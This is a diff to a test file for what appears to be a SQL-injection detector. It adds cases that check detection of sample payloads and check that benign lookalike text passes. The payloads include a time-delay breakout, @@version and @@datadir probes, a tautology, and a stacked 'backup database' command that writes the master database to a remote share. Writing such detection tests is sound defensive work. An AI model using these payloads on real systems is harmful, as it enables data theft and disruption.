@@ -102,6 +102,30 @@ describe("SQL: statements and expressions opening the value", () => {
   });
 });
 
+describe("SQL: versioned comments, VALUES tuples, match-all LIKE, server variables, adjacent literals, BACKUP", () => {
+  it("finds them", () => {
+    expect(rule(q("1/*!1111'*/"))).toBe("sqli.versioned-comment");
+    expect(rule(q("',NULL) waitfor delay '0:0:20' /*"))).toBe("sqli.breakout-values");
+    expect(rule(q("1'), NULL, @@version)#"))).toBe("sqli.breakout-values");
+    expect(rule(q(" like '%'"))).toBe("sqli.tautology");
+    expect(rule(q("@@version"))).toBe("sqli.server-variable");
+    expect(rule(q("1 and @@datadir"))).toBe("sqli.server-variable");
+    expect(rule(q("' '"))).toBe("sqli.breakout-operator");
+    expect(rule(q("\" \""))).toBe("sqli.breakout-operator");
+    expect(rule(q("backup database master to disk='\\\\10.0.0.1\\s\\db.dat'"))).toBe("sqli.stacked");
+  });
+  it("leaves licence comments, measures, prose LIKE, mentions, separators and backup advice alone", () => {
+    expect(category(q("/*! normalize.css v8 */"))).toBe("none");
+    expect(category(q("5', 2)"))).toBe("none");
+    expect(category(q("Size (6', 2\")"))).toBe("none");
+    expect(category(q("a sign like '%' here"))).toBe("none");
+    expect(category(q("@john thanks"))).toBe("none");
+    expect(category(q("mail me @ home"))).toBe("none");
+    expect(category(q("use ' ' as separator"))).toBe("none");
+    expect(category(q("how to backup database to disk"))).toBe("none");
+  });
+});
+
 describe("normalisation: typographic quotes", () => {
   it("reads smart quotes and primes as quotes", () => {
     expect(category(q("’ or ‘1’=’1"))).toBe("sqli");
